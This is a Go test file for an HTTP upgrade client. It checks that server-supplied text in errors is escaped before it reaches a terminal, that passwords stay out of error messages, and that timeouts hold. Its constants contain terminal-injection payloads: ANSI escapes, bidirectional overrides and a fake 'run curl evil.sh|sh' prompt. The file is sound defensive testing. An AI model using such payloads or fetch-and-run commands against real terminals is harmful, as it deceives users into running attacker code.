package upgrade

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/httpstream-go/httpstream"
)

// answeringServer is a hostile server or proxy: it reads one HTTP request
// and writes answer, raw, then waits for the client to hang up.
func answeringServer(t *testing.T, answer string) string {
	ln := listen(t)
	serveConns(t, ln, func(c net.Conn) {
		br := bufio.NewReader(c)
		if readsARequest(c, br) != nil {
			return
		}
		if _, err := io.WriteString(c, answer); err != nil {
			return
		}
		_, _ = io.Copy(io.Discard, br)
	})
	return ln.Addr().String()
}

// terminalAttack is what a hostile peer puts in its text: it hides what
// follows, sets the terminal's title, clears the screen, prints a fake
// message in red, overwrites the line, and reverses the rest.
const terminalAttack = "\x1b[8m: \x1b]0;PWNED-TITLE\a\x1b[2J\x1b[1;31mfake: run curl evil.sh|sh\x1b[0m\rOVERWRITE \u202eevil\u2066 \x9b2J \xff"

// highAttack is what gets past net/textproto's check of header values,
// which lets every octet from 0x80 up through: a C1 CSI (which some
// terminals take as ESC [), bidirectional overrides, invalid UTF-8.
const highAttack = "x \u009b2J \u202eevil\u2066 \xff\x9b"

// assertPrintable fails unless text is safe to print on a terminal: valid
// UTF-8 with no control character but newline and tab, no DEL, no C1
// control and no bidirectional override or isolate.
func assertPrintable(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s %q is not valid UTF-8", what, text)
	}
	for _, r := range text {
		if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f ||
			r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("%s %q holds %U", what, text, r)
		}
	}
}

func TestServerTextInErrorsCannotDriveATerminal(t *testing.T) {
	jsonAttack := `{"message":"denied \u001b]0;PWNED\u0007\u001b[2J\u202e"}`
	for _, tt := range []struct {
		name   string
		answer string
		proxy  bool // the answer is a CONNECT proxy's
	}{
		{"in the reason phrase", "HTTP/1.1 403 Forbidden " + terminalAttack + "\r\nContent-Length: 0\r\n\r\n", false},
		{"in a text body", "HTTP/1.1 403 Forbidden\r\nContent-Length: " + fmt.Sprint(len(terminalAttack)) + "\r\n\r\n" + terminalAttack, false},
		{"as JSON escapes in a Status message", "HTTP/1.1 403 Forbidden\r\nContent-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(jsonAttack)) + "\r\n\r\n" + jsonAttack, false},
		{"in a 101's Upgrade header", "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: " + highAttack + "\r\n\r\n", false},
		{"in a 101's Connection header", "HTTP/1.1 101 Switching Protocols\r\nConnection: " + highAttack + "\r\nUpgrade: " + Protocol + "\r\n\r\n", false},
		{"in a header value that net/textproto rejects", "HTTP/1.1 101 Switching Protocols\r\nConnection: x" + strings.ReplaceAll(terminalAttack, "\r", "") + "\r\nUpgrade: " + Protocol + "\r\n\r\n", false},
		{"in a malformed status line", terminalAttack + "\r\n\r\n", false},
		{"in a malformed header line", "HTTP/1.1 403 Forbidden\r\n" + strings.ReplaceAll(terminalAttack, "\r", "") + "\r\n\r\n", false},
		{"in a huge reason phrase", "HTTP/1.1 403 " + strings.Repeat("x", 100<<10) + "\r\nContent-Length: 0\r\n\r\n", false},
		{"in a proxy's reason phrase", "HTTP/1.1 403 Forbidden " + terminalAttack + "\r\nContent-Length: 0\r\n\r\n", true},
		{"in a proxy's 407", "HTTP/1.1 407 " + terminalAttack + "\r\nContent-Length: 0\r\n\r\n", true},
		{"in a proxy's malformed answer", terminalAttack + "\r\n\r\n", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			addr := answeringServer(t, tt.answer)
			serverURL := "http://" + addr + "/exec"
			proxier := noProxy
			if tt.proxy {
				proxier = proxyAt("http", addr)
				serverURL = "http://server.invalid/exec"
			}
			rt := mustRoundTripper(t, RoundTripperConfig{Proxier: proxier})
			_, err := dialUpgrade(rt, serverURL)
			if err == nil {
				t.Fatal("the upgrade succeeded")
			}
			t.Logf("error: %.300s", err)
			assertPrintable(t, "error", err.Error())
			if len(err.Error()) > 2<<10 {
				t.Errorf("error text is %d bytes long", len(err.Error()))
			}
			var refusal *ResponseError
			if errors.As(err, &refusal) {
				assertPrintable(t, "Status", refusal.Status)
				assertPrintable(t, "Message", refusal.Message)
				if len(refusal.Status) > maxStatusBytes {
					t.Errorf("Status is %d bytes, over %d", len(refusal.Status), maxStatusBytes)
				}
			}
			var proxyErr *ProxyError
			if errors.As(err, &proxyErr) {
				assertPrintable(t, "Reason", proxyErr.Reason)
			}
			// The text is shown, escaped, not dropped: ESC as \x1b (by
			// Sanitize, and by net/http's own quoting of a line it rejects).
			if strings.Contains(tt.answer, "\x1b") && !strings.Contains(err.Error(), `\x1b`) {
				t.Errorf("error %q does not show ESC as \\x1b", err)
			}
			if strings.Contains(tt.answer, highAttack) && !strings.Contains(err.Error(), `\u202e`) {
				t.Errorf("error %q does not show RLO as \\u202e", err)
			}
		})
	}
}

func TestACertificatesNamesInATLSErrorArePrintedSafely(t *testing.T) {
	// crypto/x509 lists the names a certificate is valid for when none
	// matches, and a DNS name may hold any ASCII, ESC included.
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		DNSNames:     []string{"evil\x1b]0;PWNED\a\x1b[2J.example"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	serverConfig := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	ln := listen(t)
	serveConns(t, tls.NewListener(ln, serverConfig), func(c net.Conn) {
		_, _ = io.Copy(io.Discard, c) // runs the handshake, which the client fails
	})
	// The name checked is victim.example; the empty pool trusts nothing,
	// but crypto/x509 checks the name first.
	rt := directRoundTripper(t, &tls.Config{ServerName: "victim.example", RootCAs: x509.NewCertPool()})
	_, err = dialUpgrade(rt, "https://"+ln.Addr().String()+"/exec")
	if err == nil {
		t.Fatal("the upgrade succeeded")
	}
	t.Logf("error: %v", err)
	assertPrintable(t, "error", err.Error())
	var hostnameErr x509.HostnameError
	if !errors.As(err, &hostnameErr) {
		t.Errorf("error %q no longer carries the x509.HostnameError", err)
	}
	if !strings.Contains(err.Error(), `evil\x1b]0;PWNED`) {
		t.Errorf("error %q does not show the certificate's name, escaped", err)
	}
}

func TestTheProtocolsAServerAcceptsArePrintedSafely(t *testing.T) {
	addr := answeringServer(t, "HTTP/1.1 403 Forbidden\r\nX-Accepted-Stream-Protocol-Versions: v5"+highAttack+"\r\nContent-Length: 0\r\n\r\n")
	u, _ := url.Parse("http://" + addr + "/exec")
	_, _, err := NewDialer(directRoundTripper(t, nil), nil, http.MethodPost, u).Dial("v4")
	if err == nil {
		t.Fatal("Dial succeeded")
	}
	t.Logf("error: %v", err)
	assertPrintable(t, "error", err.Error())
	if !strings.Contains(err.Error(), `\u202e`) {
		t.Errorf("error %q does not show the list, escaped", err)
	}
}

func TestNoErrorPrintsAPassword(t *testing.T) {
	const password = "S3CRET-PW"
	const proxyPassword = "PR0XY-PW"
	closed := closedPort(t)
	refusing := answeringServer(t, "HTTP/1.1 403 Forbidden\r\nContent-Length: 2\r\n\r\nno")
	stalled, _ := stalledServer(t, readsARequest)
	user := url.UserPassword("alice", password)
	for _, tt := range []struct {
		name  string
		url   *url.URL
		proxy *url.URL
		cfg   RoundTripperConfig
	}{
		{"a bad port", &url.URL{Scheme: "https", User: user, Host: "127.0.0.1:badport", Path: "/exec"}, nil, RoundTripperConfig{}},
		{"a port out of range", &url.URL{Scheme: "https", User: user, Host: "127.0.0.1:65536", Path: "/exec"}, nil, RoundTripperConfig{}},
		{"a bad scheme", &url.URL{Scheme: "ftp", User: user, Host: "127.0.0.1", Path: "/exec"}, nil, RoundTripperConfig{}},
		{"a URL without host", &url.URL{Scheme: "https", User: user, Path: "/exec"}, nil, RoundTripperConfig{}},
		{"an unreachable server", &url.URL{Scheme: "http", User: user, Host: closed, Path: "/exec"}, nil, RoundTripperConfig{}},
		{"an unreachable proxy", &url.URL{Scheme: "http", User: user, Host: "server.invalid", Path: "/exec"}, &url.URL{Scheme: "http", User: url.UserPassword("bob", proxyPassword), Host: closed}, RoundTripperConfig{}},
		{"an unreachable SOCKS5 proxy", &url.URL{Scheme: "http", User: user, Host: "server.invalid", Path: "/exec"}, &url.URL{Scheme: "socks5", User: url.UserPassword("bob", proxyPassword), Host: closed}, RoundTripperConfig{}},
		{"a proxy that refuses the credentials", &url.URL{Scheme: "http", User: user, Host: "server.invalid", Path: "/exec"}, &url.URL{Scheme: "http", User: url.UserPassword("bob", proxyPassword), Host: (&connectProxy{wantAuth: "nope"}).start(t, nil)}, RoundTripperConfig{}},
		{"a proxy that does not answer in time", &url.URL{Scheme: "http", User: user, Host: "server.invalid", Path: "/exec"}, &url.URL{Scheme: "http", User: url.UserPassword("bob", proxyPassword), Host: stalled}, RoundTripperConfig{ProxyConnectTimeout: 50 * time.Millisecond}},
		{"a refused upgrade", &url.URL{Scheme: "http", User: user, Host: refusing, Path: "/exec"}, nil, RoundTripperConfig{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cfg := tt.cfg
			cfg.Proxier = noProxy
			if tt.proxy != nil {
				cfg.Proxier = http.ProxyURL(tt.proxy)
			}
			rt := mustRoundTripper(t, cfg)
			for _, client := range []*http.Client{nil, {Transport: rt, Timeout: testTimeout}} {
				done := make(chan error, 1)
				go func() {
					conn, _, err := NewDialer(rt, client, http.MethodPost, tt.url).Dial("v5.channel.k8s.io")
					if err == nil {
						_ = conn.Close()
					}
					done <- err
				}()
				err := within(t, "Dial to fail", done)
				if err == nil {
					t.Fatal("Dial succeeded")
				}
				t.Logf("error: %v", err)
				for _, secret := range []string{password, proxyPassword} {
					if strings.Contains(err.Error(), secret) || strings.Contains(fmt.Sprintf("%+v", err), secret) {
						t.Errorf("error %q shows a password", err)
					}
				}
			}
		})
	}
}

// closedPort returns a loopback address where nothing listens.
func closedPort(t *testing.T) string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	_ = ln.Close()
	return addr
}

func TestDialDoesNotModifyTheCallersURL(t *testing.T) {
	srv, _ := newTestServer(t, newEchoServer(t), false)
	u, _ := url.Parse(srv.URL + "/exec?command=sh")
	before := *u
	conn, _, err := NewDialer(directRoundTripper(t, nil), nil, http.MethodPost, u).Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if *u != before {
		t.Errorf("the URL changed from %v to %v", &before, u)
	}
}

// assertTimeout checks that err is a timeout (a net.Error with Timeout(),
// matching context.DeadlineExceeded) that names the setting, and arrived
// within a bound that is loose for loaded machines.
func assertTimeout(t *testing.T, err error, setting string, took time.Duration) {
	t.Helper()
	if err == nil {
		t.Fatal("the handshake succeeded")
	}
	t.Logf("error after %v: %v", took, err)
	var netErr net.Error
	if !errors.As(err, &netErr) || !netErr.Timeout() {
		t.Errorf("error %q is not a net.Error with Timeout() true", err)
	}
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("error %q does not match context.DeadlineExceeded", err)
	}
	if !strings.Contains(err.Error(), setting) {
		t.Errorf("error %q does not name %s", err, setting)
	}
	if took > 5*time.Second {
		t.Errorf("the timeout took %v", took)
	}
}

func TestAProxyThatDoesNotAnswerInTimeFailsTheDial(t *testing.T) {
	for _, tt := range []struct {
		name   string
		scheme string
		stall  func(net.Conn, *bufio.Reader) error
	}{
		{"an HTTP proxy that never answers CONNECT", "http", readsARequest},
		{"a SOCKS5 proxy that never answers", "socks5", readsOneOctet},
	} {
		t.Run(tt.name, func(t *testing.T) {
			addr, _ := stalledServer(t, tt.stall)
			rt := mustRoundTripper(t, RoundTripperConfig{Proxier: proxyAt(tt.scheme, addr), ProxyConnectTimeout: 100 * time.Millisecond})
			req, _ := http.NewRequestWithContext(context.Background(), http.MethodPost, "http://server.invalid/exec", nil)
			start := time.Now()
			err := within(t, "RoundTrip to give up on the proxy", roundTripInBackground(rt, req))
			assertTimeout(t, err, "ProxyConnectTimeout", time.Since(start))
		})
	}
	t.Run("the default", func(t *testing.T) {
		if got := mustRoundTripper(t, RoundTripperConfig{}).proxyConnectTimeout; got != DefaultProxyConnectTimeout {
			t.Errorf("ProxyConnectTimeout 0 gives %v, want %v", got, DefaultProxyConnectTimeout)
		}
		if got := mustRoundTripper(t, RoundTripperConfig{ProxyConnectTimeout: -1}).proxyConnectTimeout; got > 0 {
			t.Errorf("a negative ProxyConnectTimeout gives %v, want none", got)
		}
	})
}

func TestTheUpgradeTransportsTimeoutsApply(t *testing.T) {
	for _, tt := range []struct {
		name      string
		scheme    string
		stall     func(net.Conn, *bufio.Reader) error
		transport *http.Transport
		setting   string
	}{
		{"TLSHandshakeTimeout", "https", readsOneOctet, &http.Transport{TLSHandshakeTimeout: 100 * time.Millisecond}, "TLSHandshakeTimeout"},
		{"ResponseHeaderTimeout", "http", readsARequest, &http.Transport{ResponseHeaderTimeout: 100 * time.Millisecond}, "ResponseHeaderTimeout"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			addr, _ := stalledServer(t, tt.stall)
			rt := mustRoundTripper(t, RoundTripperConfig{UpgradeTransport: tt.transport})
			req, _ := http.NewRequestWithContext(context.Background(), http.MethodPost, tt.scheme+"://"+addr+"/exec", nil)
			start := time.Now()
			err := within(t, "RoundTrip to time out", roundTripInBackground(rt, req))
			assertTimeout(t, err, tt.setting, time.Since(start))
			if httpstream.IsUpgradeFailure(err) {
				t.Errorf("error %q claims the server refused the upgrade", err)
			}
		})
	}
	t.Run("ResponseHeaderTimeout does not bound reading a refusal's body", func(t *testing.T) {
		// The body comes after the timeout would have fired.
		release := make(chan struct{})
		ln := listen(t)
		serveConns(t, ln, func(c net.Conn) {
			if readsARequest(c, bufio.NewReader(c)) != nil {
				return
			}
			_, _ = io.WriteString(c, "HTTP/1.1 403 Forbidden\r\nContent-Length: 2\r\n\r\n")
			select {
			case <-release:
			case <-time.After(testTimeout):
			}
			_, _ = io.WriteString(c, "no")
		})
		// Long enough for the headers to arrive on a loaded machine.
		const headerTimeout = time.Second
		rt := mustRoundTripper(t, RoundTripperConfig{UpgradeTransport: &http.Transport{ResponseHeaderTimeout: headerTimeout}})
		req, _ := http.NewRequestWithContext(context.Background(), http.MethodPost, "http://"+ln.Addr().String()+"/exec", nil)
		resp, err := rt.RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		// Past the header timeout, measured on a timer of its own.
		within(t, "the header timeout to pass", time.After(headerTimeout+100*time.Millisecond))
		close(release)
		done := make(chan error, 1)
		go func() { _, err := rt.NewConnection(resp); done <- err }()
		var refusal *ResponseError
		if err := within(t, "NewConnection", done); !errors.As(err, &refusal) || refusal.Message != "no" {
			t.Errorf("error %v, want the refusal with its message", err)
		}
	})
}

func TestThe101DropsHeadersTheUpgradeSetsInWhateverCase(t *testing.T) {
	echo := newEchoServer(t)
	srv, _ := newTestServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Written straight into the map, past http.Header's canonicalizing.
		w.Header()["connection"] = []string{"keep-alive"}
		w.Header()["UPGRADE"] = []string{"h2c"}
		w.Header()["content-length"] = []string{"12"}
		w.Header()["transfer-encoding"] = []string{"chunked"}
		w.Header()["keep-alive"] = []string{"timeout=5"}
		w.Header()["x-custom"] = []string{"kept"}
		echo.ServeHTTP(w, r)
	}), false)
	conn, err := net.Dial("tcp", srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: %s\r\n\r\n", Protocol)
	got := readRawHead(t, conn)
	lower := strings.ToLower(got)
	for name, want := range map[string]int{"connection:": 1, "upgrade:": 1, "content-length:": 0, "transfer-encoding:": 0, "keep-alive": 0, "x-custom: kept": 1} {
		if n := strings.Count(lower, "\r\n"+name); n != want {
			t.Errorf("the 101 has %d %q lines, want %d:\n%s", n, name, want, got)
		}
	}
}

// readRawHead reads a response's head, up to its blank line, octet by
// octet, so that nothing after it is consumed.
func readRawHead(t *testing.T, conn net.Conn) string {
	t.Helper()
	head := make(chan string, 1)
	go func() {
		var b strings.Builder
		one := make([]byte, 1)
		for !strings.HasSuffix(b.String(), "\r\n\r\n") {
			if _, err := conn.Read(one); err != nil {
				break
			}
			b.Write(one)
		}
		head <- b.String()
	}()
	return within(t, "the 101 response", head)
}
